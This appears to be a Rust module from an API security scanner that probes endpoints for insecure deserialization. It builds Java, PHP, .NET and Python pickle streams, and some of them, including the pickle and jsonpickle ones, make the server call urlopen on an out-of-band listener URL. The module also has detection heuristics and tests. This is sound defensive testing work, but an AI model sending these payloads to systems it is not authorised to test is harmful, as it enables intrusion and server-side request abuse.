//! A value is read as a serialized object of any class.

use base64::{Engine as _, engine::general_purpose::STANDARD};
use serde_json::{Value, json};

use super::probing::{Aim, named, slots, text_like};
use crate::{
    check::{Check, Info, Phase, Proof, Risk, Target, Verdict},
    finding::{Section, Severity, Shield},
    model::Slot,
    script::{Flow, Planted, Script},
    wire::Answer,
    world::World,
};

static INFO: Info = Info {
    id: "object_deserialized",
    title: "A value is read as a serialized object of any class",
    section: Section::Security,
    severity: Severity::Critical,
    risk: Risk::Safe,
    phase: Phase::Probe,
    owasp: "API8:2023",
    cwe: 502,
    wfc: None,
    remedy: "Read data formats (JSON with a schema), never the language's own object streams; where one must be read, \
             sign it and allow the expected classes alone.",
    oracle: "The out-of-band listener was called by an object of ours with a token, or the answer complains of a class \
             whose random name stands in the stream only in encoded form, twice with fresh names, and does not for other \
             bytes in the same encoding.",
    requests_max: 24,
};

/// The check.
pub(super) struct ObjectDeserialized;

/// A stream that names a class, for a language.
type Stream = fn(class: &str, url: &str) -> Value;

const STREAMS: &[(&str, Stream)] = &[
    ("Java", |class, url| Value::from(STANDARD.encode(java(class, url)))),
    ("PHP", |class, url| {
        Value::from(format!("O:{}:\"{class}\":1:{{s:3:\"url\";s:{}:\"{url}\";}}", class.len(), url.len()))
    }),
    ("Python", |class, url| Value::from(STANDARD.encode(pickle(class, url)))),
    (".NET", |class, url| Value::from(STANDARD.encode(dotnet(class, url)))),
    ("Python jsonpickle", |class, url| {
        if url.is_empty() {
            json!({"py/object": format!("{class}.{class}")})
        } else {
            json!({"py/reduce": [{"py/type": "urllib.request.urlopen"}, {"py/tuple": [url]}]})
        }
    }),
];

impl Check for ObjectDeserialized {
    fn info(&self) -> &'static Info {
        &INFO
    }

    fn targets(&self, world: &World) -> Vec<Target> {
        slots(world, |index, _, slot| {
            let value =
                world.good(index).and_then(|good| good.call.value(&slot.place)).and_then(Value::as_str);
            text_or_bytes(slot) && (likely(slot) || value.is_some_and(serialized))
        })
    }

    fn run(&self, world: &World, target: &Target, script: &mut Script<'_>) -> Flow<Verdict> {
        let aim = Aim::take(world, target, script)?;
        for (language, stream) in STREAMS {
            let class = class(script);
            let token = script.token();
            let url = token.as_ref().map(|(_, url)| url.clone()).unwrap_or_default();
            if let Some((token, _)) = &token {
                script.plant(token, Planted { status: 200, headers: Vec::new(), body: String::new() })?;
            }
            let (number, answer) = aim.send(script, stream(&class, &url))?;
            let complains = complains(&answer, &class, language);
            if complains && let Some(exchanges) = differs(&aim, script, language, *stream, number)? {
                let summary =
                    format!("`{}` is read as an object stream of {language}: it names our class", aim.place);
                return Ok(found(summary, exchanges));
            }
            // Waited for only where the stream was not simply refused: each wait costs its whole bound.
            let Some((token, _)) = token.filter(|_| answer.done() || answer.status >= 500) else { continue };
            if let Some(hit) = script.hits(&token)?.first() {
                let line = hit.text.lines().next().unwrap_or_default();
                let summary = format!(
                    "`{}` is read as an object stream of {language}: an object in it called us by {}: `{line}`",
                    aim.place, hit.by
                );
                return Ok(found(summary, vec![(number, "probe")]));
            }
        }
        Ok(Verdict::Clean)
    }
}

fn found(summary: String, exchanges: Vec<(usize, &'static str)>) -> Verdict {
    Verdict::Found(vec![Proof::confirmed(summary, exchanges, Shield::AttackRule)])
}

/// A class of a name that nobody has.
fn class(script: &mut Script<'_>) -> String {
    script.word(12)
}

/// Whether the answer complains of the class. In PHP and JSON the name stands in the clear, and an echo would hold it:
/// there the language's own words must stand beside it.
fn complains(answer: &Answer, class: &str, language: &str) -> bool {
    let text = answer.text();
    let words: &[&str] = match language {
        "PHP" => &["unserialize", "__PHP_Incomplete_Class", "Class \"", "Class '"],
        "Python jsonpickle" => &["No module named", "jsonpickle", "ModuleNotFoundError"],
        _ => &[class],
    };
    text.contains(class) && words.iter().any(|word| text.contains(word))
}

fn differs(
    aim: &Aim<'_>,
    script: &mut Script<'_>,
    language: &str,
    stream: Stream,
    first: usize,
) -> Flow<Option<Vec<(usize, &'static str)>>> {
    let name = class(script);
    let (second, again) = aim.send(script, stream(&name, ""))?;
    if !complains(&again, &name, language) {
        return Ok(None);
    }
    // The same name in the same encoding, and no stream.
    let name = class(script);
    let plain = format!("no stream of {name}");
    let (control, other) = match language {
        "PHP" | "Python jsonpickle" => aim.send(script, plain)?,
        _ => aim.send(script, STANDARD.encode(plain))?,
    };
    let refuted = complains(&other, &name, language);
    Ok((!refuted).then(|| vec![(first, "probe"), (second, "confirmation"), (control, "control")]))
}

/// A Java stream (Java Object Serialization Specification, 6.4): one object of a class, with a URL as its text.
fn java(class: &str, url: &str) -> Vec<u8> {
    let mut out = vec![0xAC, 0xED, 0, 5, b's', b'r'];
    out.extend_from_slice(&(class.len() as u16).to_be_bytes());
    out.extend_from_slice(class.as_bytes());
    out.extend_from_slice(&[0, 0, 0, 0, 0, 0, 0, 1, 2, 0, 1, b'L', 0, 3]);
    out.extend_from_slice(b"urlt\0\x12Ljava/lang/String;xpt");
    out.extend_from_slice(&(url.len() as u16).to_be_bytes());
    out.extend_from_slice(url.as_bytes());
    out
}

/// A pickle of protocol 0: a call that fetches the URL, or a class of a module that is not there.
fn pickle(class: &str, url: &str) -> Vec<u8> {
    if url.is_empty() {
        return format!("c{class}\n{class}\n(tR.").into_bytes();
    }
    format!("curllib.request\nurlopen\n(S'{url}'\ntR.").into_bytes()
}

/// A stream of BinaryFormatter (MS-NRBF 2.6.1, 2.3.2.1): header, library, one object of a class with the URL.
fn dotnet(class: &str, url: &str) -> Vec<u8> {
    let text = |out: &mut Vec<u8>, text: &str| {
        out.push(text.len().min(127) as u8);
        out.extend(text.bytes().take(127));
    };
    let mut out = vec![0, 1, 0, 0, 0, 0xFF, 0xFF, 0xFF, 0xFF, 1, 0, 0, 0, 0, 0, 0, 0];
    out.extend_from_slice(&[12, 2, 0, 0, 0]);
    text(&mut out, class);
    out.extend_from_slice(&[5, 1, 0, 0, 0]);
    text(&mut out, &format!("{class}.{class}"));
    out.extend_from_slice(&[1, 0, 0, 0]);
    text(&mut out, "url");
    out.extend_from_slice(&[1, 2, 0, 0, 0, 6, 3, 0, 0, 0]);
    text(&mut out, url);
    out.push(11);
    out
}

fn text_or_bytes(slot: &Slot) -> bool {
    text_like(slot) || slot.schema.get("format").and_then(Value::as_str) == Some("byte")
}

fn likely(slot: &Slot) -> bool {
    const WORDS: &[&str] = &[
        "session",
        "state",
        "object",
        "serial",
        "payload",
        "blob",
        "cart",
        "pickle",
        "job",
        "task",
        "layout",
        "viewstate",
        "prefs",
        "preferences",
        "snapshot",
        "saved",
        "restore",
        "dump",
        "remember",
        "data",
    ];
    named(slot, WORDS)
}

/// Whether a good value is an object stream itself.
fn serialized(value: &str) -> bool {
    let php = value.split_once(':').is_some_and(|(head, rest)| {
        matches!(head, "O" | "a" | "s") && rest.starts_with(|it: char| it.is_ascii_digit())
    });
    ["rO0AB", "gASV", "gAN", "gAJ", "AAEAAAD/////", "H4sIAAAA"].iter().any(|it| value.starts_with(it)) || php
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::{
        model::Effect,
        script::rehearse::{Ask, Fake, Stage, answer, body},
    };

    fn stage() -> Stage {
        Stage::new()
            .op("POST /restore", Effect::Acts, json!({"ok": true}))
            .slot(body("/session"), json!("rO0ABXA="))
    }

    #[test]
    fn finds_a_reader_that_names_our_class() {
        let stage = stage();
        let mut fake = Fake::new(&stage.world, |ask: &Ask| {
            let bytes = STANDARD.decode(ask.text("session")).unwrap_or_default();
            let Some(rest) = bytes.strip_prefix(&[0xAC, 0xED, 0, 5]) else { return answer(400, json!({})) };
            let class = String::from_utf8_lossy(&rest[4..16]).into_owned();
            answer(500, json!({"detail": format!("ClassNotFoundException: {class}")}))
        });
        assert_eq!(fake.confirmed(&ObjectDeserialized), 1);
        let mut php = Fake::new(&stage.world, |ask: &Ask| match ask.text("session").split('"').nth(1) {
            Some(class) if ask.text("session").starts_with("O:") => {
                answer(500, json!({"detail": format!("unserialize(): Class '{class}' not found")}))
            }
            _ => answer(400, json!({})),
        });
        assert_eq!(php.confirmed(&ObjectDeserialized), 1);
    }

    #[test]
    fn is_silent_on_echoes_decoded_or_not() {
        let stage = stage();
        let mut decoded = Fake::new(&stage.world, |ask: &Ask| {
            let bytes = STANDARD.decode(ask.text("session")).unwrap_or_default();
            answer(400, json!({"detail": String::from_utf8_lossy(&bytes)}))
        });
        assert!(decoded.all(&ObjectDeserialized).is_empty());
        let mut echo =
            Fake::new(&stage.world, |ask: &Ask| answer(400, json!({"detail": ask.text("session")})));
        assert!(echo.all(&ObjectDeserialized).is_empty());
    }

    #[test]
    fn is_tried_on_slots_that_look_like_it_alone() {
        let stage = Stage::new().op("GET /a", Effect::Reads, json!(1)).slot(body("/name"), json!("Ida"));
        assert!(ObjectDeserialized.targets(&stage.world).is_empty());
    }
}
